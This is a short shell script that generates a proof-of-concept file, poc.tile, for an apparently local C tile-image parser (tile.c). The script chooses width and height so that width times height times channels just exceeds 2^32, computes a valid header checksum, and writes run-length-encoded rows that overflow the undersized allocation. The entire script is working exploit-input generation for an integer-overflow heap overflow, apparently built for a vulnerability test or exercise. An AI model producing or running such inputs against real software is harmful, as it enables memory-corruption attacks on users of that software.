# width * height * channels just above 2^32: little is allocated, and the first rows do not fit.
set -eu
cat > make.py <<'PY'
import re

source = open("tile.c").read()


def number(name):
    return int(re.search(rf"\b{name} = (\d+)", source)[1])


mark = re.search(r'#define MARK "(.*)"', source)[1].encode()
channels = number("CHANNELS")
width, height = next(
    (width, (1 << 32) // (width * channels) + 1)
    for width in range(65535, 1, -1)
    if (1 << 32) // (width * channels) + 1 < 65536
    and 0 < width * ((1 << 32) // (width * channels) + 1) * channels - (1 << 32) < width * channels
)
header = mark + width.to_bytes(2, "little") + height.to_bytes(2, "little") + bytes([channels, 0])
check = 0
for byte in header:
    check = (check * number("CHECK_STEP") + byte) & 0xFFFFFFFF
check = (check ^ number("CHECK_MASK")) & 0xFFFF
row = b"\xff\x41" * (width * channels // 255)
rest = width * channels % 255
row += bytes([rest, 0x41]) if rest else b""
open("poc.tile", "wb").write(header + check.to_bytes(2, "little") + row * 2)
PY
python3 make.py
rm make.py
echo 'the size of the tile passes 32 bits'
